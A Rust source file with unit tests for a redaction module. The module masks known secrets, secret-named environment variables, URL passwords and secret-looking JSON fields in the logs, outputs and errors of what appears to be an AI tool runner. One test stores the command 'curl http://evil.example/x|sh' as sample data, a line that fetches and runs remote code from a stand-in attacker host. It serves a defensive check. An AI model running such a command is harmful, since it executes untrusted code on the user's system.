//! Secrets never leave: known values are cut out of everything that is logged, recorded or answered.

mod pieces;

use std::fmt;
use std::ops::Not;
use std::sync::{Arc, PoisonError, RwLock, RwLockReadGuard};

use aho_corasick::{AhoCorasick, MatchKind};
use secrecy::{ExposeSecret, SecretString};
use serde_json::{Map, Value};

use crate::environment;
use crate::error::ToolError;
use crate::outcome::{Outcome, Output, Status};
pub use pieces::RedactedPieces;

/// What stands where a secret stood.
pub const MASK: &str = "[REDACTED]";

/// A longer value is a document.
const LONGEST: usize = 16 << 10;
/// A shorter value would be found in innocent text, and is no secret worth the name.
const SHORTEST: usize = 8;

/// Field names whose values are never logged, whatever they are.
const SECRET_FIELDS: [&str; 11] =
    ["password", "passwd", "passphrase", "secret", "token", "api_key", "apikey", "authorization", "credential", "private_key", "cookie"];

/// Knows the secrets of this process and cuts them out of text, data and errors. Cheap to clone; clones share.
#[derive(Clone, Default)]
pub struct Redactor(Arc<RwLock<Known>>);

#[derive(Default)]
struct Known {
    secrets: Vec<SecretString>,
    finder: Option<AhoCorasick>,
    /// Whether there are secrets that the finder does not know.
    stale: bool,
}

impl Redactor {
    /// Remembers secrets. Values of fewer than eight bytes are ignored.
    pub fn add(&self, secrets: impl IntoIterator<Item = SecretString>) {
        let mut known = self.0.write().unwrap_or_else(PoisonError::into_inner);
        for secret in secrets {
            let value = secret.expose_secret();
            let is_new = known.secrets.iter().all(|old| old.expose_secret() != value);
            if (SHORTEST..=LONGEST).contains(&value.len()) && is_new {
                known.secrets.push(secret);
                known.stale = true;
            }
        }
    }

    /// What is known, with a finder for all of it. Many secrets come one after the other, so it is made when needed.
    fn known(&self) -> RwLockReadGuard<'_, Known> {
        let known = self.0.read().unwrap_or_else(PoisonError::into_inner);
        if !known.stale {
            return known;
        }
        drop(known);
        let mut known = self.0.write().unwrap_or_else(PoisonError::into_inner);
        let spellings: Vec<_> = known.spellings().collect();
        known.finder = AhoCorasick::builder().match_kind(MatchKind::LeftmostLongest).build(spellings).ok();
        known.stale = false;
        drop(known);
        self.0.read().unwrap_or_else(PoisonError::into_inner)
    }

    /// Remembers a secret that stands in a file of a stranger. Only what looks like one: or the file could make any word
    /// that people must see unreadable.
    pub fn add_written(&self, secrets: impl IntoIterator<Item = SecretString>) {
        let plausible = |secret: &SecretString| {
            let text = secret.expose_secret();
            !text.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'_') && !text.contains(['"', '\'', '{', '}', ':', '|', ';'])
        };
        self.add(secrets.into_iter().filter(plausible));
    }

    /// Remembers the values of environment variables whose names say that they are secret.
    pub fn add_environment(&self) {
        // What is not UTF-8 cannot show up in JSON or in a log line, and must not stop the program.
        let readable =
            environment::vars_os().into_iter().filter_map(|(name, value)| Some((name.into_string().ok()?, value.into_string().ok()?)));
        self.add(
            readable
                .filter_map(|(name, value)| if is_secret_variable(&name) { Some(value) } else { password_in_url(&value) })
                .map(Into::into),
        );
    }

    /// The text without secrets, or nothing where it has none.
    #[must_use]
    pub fn clean(&self, text: &str) -> Option<String> {
        let known = self.known();
        match &known.finder {
            Some(finder) => finder.is_match(text).then(|| replace_all(finder, text)),
            None => known.clean_one_by_one(text),
        }
    }

    /// Cuts secrets out of an outcome.
    pub fn clean_outcome(&self, outcome: &mut Outcome) {
        // A model may have put a secret where a tool's name belongs.
        if let Some(clean) = self.clean(&outcome.tool) {
            outcome.tool = clean.into();
        }
        if let Status::Done(result) = &mut outcome.status {
            match result {
                Ok(output) => self.clean_output(output),
                Err(error) => self.clean_error(error),
            }
        }
    }

    /// Cuts secrets out of data, keys included.
    pub fn clean_value(&self, value: &mut Value) {
        if self.knows_any() {
            rewrite_value(value, &|text| self.clean(text));
        }
    }

    /// A copy without secrets, for text that will be cut to a length: half a secret could not be found any more.
    #[must_use]
    pub fn cleaned(&self, value: &Value) -> Value {
        let mut copy = value.clone();
        self.clean_value(&mut copy);
        copy
    }

    fn clean_output(&self, output: &mut Output) {
        if !self.knows_any() {
            return;
        }
        if let Some(clean) = self.clean(&output.text) {
            output.text = clean;
        }
        rewrite_value(&mut output.data, &|text| self.clean(text));
        rewrite_map(&mut output.metadata, &|text| self.clean(text));
    }

    fn clean_error(&self, error: &mut ToolError) {
        if self.knows_any() {
            error.map_text(&|text| self.clean(text));
        }
    }

    fn knows_any(&self) -> bool {
        self.0.read().unwrap_or_else(PoisonError::into_inner).secrets.is_empty().not()
    }

    /// A value as one line for a log: secrets and secret-looking fields masked, the rest cut to a length.
    #[must_use]
    pub fn log_line(&self, value: &Value, length: usize) -> String {
        let mut copy = value.clone();
        mask_fields(&mut copy);
        self.log_text(&copy.to_string(), length)
    }

    /// A text for a log: secrets masked, cut to a length.
    #[must_use]
    pub fn log_text(&self, text: &str, length: usize) -> String {
        // Redact first and cut then: half a secret is still a leak.
        let clean = self.clean(text);
        crate::printable::shorten(clean.as_deref().unwrap_or(text), length)
    }
}

impl fmt::Debug for Redactor {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("Redactor")
    }
}

impl Known {
    /// The slow way, where there are too many secrets for a finder. Longer ones first, or their ends would stay.
    fn clean_one_by_one(&self, text: &str) -> Option<String> {
        let mut spellings: Vec<_> = self.spellings().filter(|secret| text.contains(secret.as_str())).collect();
        spellings.sort_by_key(|secret| std::cmp::Reverse(secret.len()));
        let clean = spellings.iter().fold(text.to_owned(), |text, secret| text.replace(secret.as_str(), MASK));
        (!spellings.is_empty()).then_some(clean)
    }

    /// Each secret as it is, as it stands inside JSON text, in JSON inside JSON, and in a URL.
    fn spellings(&self) -> impl Iterator<Item = String> {
        let quoted = |text: &str| {
            let quoted = Value::from(text).to_string();
            quoted[1..quoted.len() - 1].to_owned()
        };
        self.secrets.iter().flat_map(move |secret| {
            let plain = secret.expose_secret().to_owned();
            let once = quoted(&plain);
            [quoted(&once), once, percent_encoded(&plain), plain]
        })
    }
}

fn replace_all(finder: &AhoCorasick, text: &str) -> String {
    let mut clean = String::with_capacity(text.len());
    finder.replace_all_with(text, &mut clean, |_, _, out| {
        out.push_str(MASK);
        true
    });
    clean
}

/// Whether an environment variable of this name holds a secret.
#[must_use]
pub fn is_secret_variable(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let endings = ["_key", "_key_id", "_pat", "_pass", "_pwd", "pgpass"];
    is_secret_field(&name) || endings.iter().any(|ending| name.ends_with(ending))
}

/// The password in an address such as `postgres://user:password@host`.
#[must_use]
pub fn password_in_url(text: &str) -> Option<String> {
    let (_, rest) = text.split_once("://")?;
    let (user, _) = rest.split(['/', '?', '#']).next()?.rsplit_once('@')?;
    user.split_once(':').map(|(_, password)| password.to_owned())
}

fn percent_encoded(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.' | b'~');
    text.bytes().map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") }).collect()
}

/// Whether a field of this name holds a secret.
#[must_use]
pub fn is_secret_field(name: &str) -> bool {
    let name = name.to_ascii_lowercase().replace('-', "_");
    SECRET_FIELDS.iter().any(|secret| name.contains(secret))
}

fn mask_fields(value: &mut Value) {
    match value {
        Value::Object(fields) => {
            for (key, field) in fields.iter_mut() {
                if is_secret_field(key) && !field.is_null() {
                    *field = MASK.into();
                } else {
                    mask_fields(field);
                }
            }
        }
        Value::Array(items) => items.iter_mut().for_each(mask_fields),
        _ => {}
    }
}

pub(crate) fn rewrite_value(value: &mut Value, rewrite: &dyn Fn(&str) -> Option<String>) {
    match value {
        Value::String(text) => {
            if let Some(clean) = rewrite(text) {
                *text = clean;
            }
        }
        Value::Array(items) => items.iter_mut().for_each(|item| rewrite_value(item, rewrite)),
        Value::Object(fields) => rewrite_map(fields, rewrite),
        Value::Number(number) => {
            if rewrite(&number.to_string()).is_some() {
                *value = MASK.into();
            }
        }
        Value::Null | Value::Bool(_) => {}
    }
}

pub(crate) fn rewrite_map(fields: &mut Map<String, Value>, rewrite: &dyn Fn(&str) -> Option<String>) {
    let dirty: Vec<_> = fields.keys().filter_map(|key| Some((key.clone(), rewrite(key)?))).collect();
    for (key, clean) in dirty {
        if let Some(field) = fields.remove(&key) {
            fields.insert(clean, field);
        }
    }
    fields.values_mut().for_each(|field| rewrite_value(field, rewrite));
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn redactor(secret: &str) -> Redactor {
        let redactor = Redactor::default();
        redactor.add([secret.to_owned().into()]);
        redactor
    }

    #[test]
    fn a_known_value_is_cut_out_of_everything() {
        let redactor = redactor("canary\"9000");
        let mut value = json!({"a": ["xx canary\"9000 yy"], "canary\"9000": {"canary\"9000!": 1}});
        redactor.clean_value(&mut value);
        assert!(!value.to_string().contains("canary"), "{value}");
        assert_eq!(redactor.clean(r#"{"x":"canary\"9000"}"#).as_deref(), Some(r#"{"x":"[REDACTED]"}"#));
        assert_eq!(redactor.clean("nothing here"), None);

        let cause = std::io::Error::other("canary\"9000 was refused");
        let mut error = ToolError::failed("canary\"9000").with("key", json!("canary\"9000")).caused_by(cause);
        redactor.clean_error(&mut error);
        assert!(!format!("{error:?} {error}").contains("canary"), "{error:?}");
    }

    #[test]
    fn a_log_line_masks_fields_by_name_and_never_cuts_a_secret_in_half() {
        let redactor = redactor("canary-123456789");
        let line = redactor.log_line(&json!({"API-Key": 5, "q": "canary-123456789", "nested": [{"userPassword": "x"}]}), 500);
        assert_eq!(line, r#"{"API-Key":"[REDACTED]","q":"[REDACTED]","nested":[{"userPassword":"[REDACTED]"}]}"#);
        assert!(!redactor.log_text(&format!("{}canary-123456789", "x".repeat(90)), 100).contains("canary"));
    }

    #[test]
    fn a_secret_is_known_in_every_spelling() {
        let redactor = redactor("p@ss word\"1");
        redactor.add(["1234567890".to_owned().into()]);
        for text in ["p@ss word\"1", r#"p@ss word\"1"#, r#"p@ss word\\\"1"#, "p%40ss%20word%221"] {
            assert_eq!(redactor.clean(text).as_deref(), Some(MASK), "{text}");
        }
        let mut data = json!({"n": 1_234_567_890, "m": 12});
        redactor.clean_value(&mut data);
        assert_eq!(data, json!({"n": MASK, "m": 12}));
    }

    #[test]
    fn variables_tell_by_their_names_and_addresses_hold_passwords() {
        for name in ["DB_PASS", "MYSQL_PWD", "AWS_ACCESS_KEY_ID", "OPENAI_API_KEY", "GITHUB_TOKEN", "PGPASSWORD"] {
            assert!(is_secret_variable(name), "{name}");
        }
        for name in ["PWD", "OLDPWD", "HOME", "PATH", "KEYBOARD"] {
            assert!(!is_secret_variable(name), "{name}");
        }
        assert_eq!(password_in_url("postgres://me:hunter22@db/x?y@z").as_deref(), Some("hunter22"));
        assert_eq!(password_in_url("https://example.com/a:b@c"), None);
    }

    #[test]
    fn without_a_finder_it_only_takes_longer() {
        let redactor = redactor("canary\"9000");
        redactor.add(["canary\"9000-long".to_owned().into()]);
        let _ = redactor.clean("");
        redactor.0.write().expect("a lock").finder = None;
        assert_eq!(redactor.clean("x canary\"9000-long y canary\\\"9000 z").as_deref(), Some("x [REDACTED] y [REDACTED] z"));
        assert_eq!(redactor.clean("nothing here"), None);
    }

    #[test]
    fn words_of_a_file_cannot_be_made_unreadable() {
        let redactor = Redactor::default();
        redactor.add_written(
            ["curl http://evil.example/x|sh", "permission_denied", "\"diagnostics\":", "sk-abc123def456"]
                .map(|text| text.to_owned().into()),
        );
        assert_eq!(redactor.clean("curl http://evil.example/x|sh \"diagnostics\": permission_denied"), None);
        assert_eq!(redactor.clean("key sk-abc123def456").as_deref(), Some("key [REDACTED]"));
    }

    #[test]
    fn short_values_are_not_secrets() {
        assert_eq!(redactor("true").clean("it is true"), None);
    }
}
